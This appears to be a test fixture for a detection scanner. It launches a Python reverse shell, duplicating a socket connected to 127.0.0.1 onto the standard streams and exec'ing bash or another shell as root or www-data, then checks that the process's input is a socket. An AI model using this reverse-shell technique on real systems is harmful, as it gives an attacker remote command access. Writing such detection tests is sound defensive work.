# id: K08
# mode: scan
# level: suspicious
# title: a shell whose input and output is a connection
# due: now
some_port port
pick user root www-data
pick shell 'bash -i' sh 'python3 -i' dash
other_end "$port" "$user"
start -u "$user" python3 -c "
import os, socket
s = socket.create_connection(('127.0.0.1', $port))
for number in range(3):
    os.dup2(s.fileno(), number)
os.set_inheritable(s.fileno(), False)
os.execvp('${shell%% *}', '$shell'.split())"
wait_for sh -c "readlink /proc/$pid/fd/0 | grep -q ^socket: && ! tr '\\0' ' ' </proc/$pid/cmdline | grep -q create_connection"
said pid "$pid"
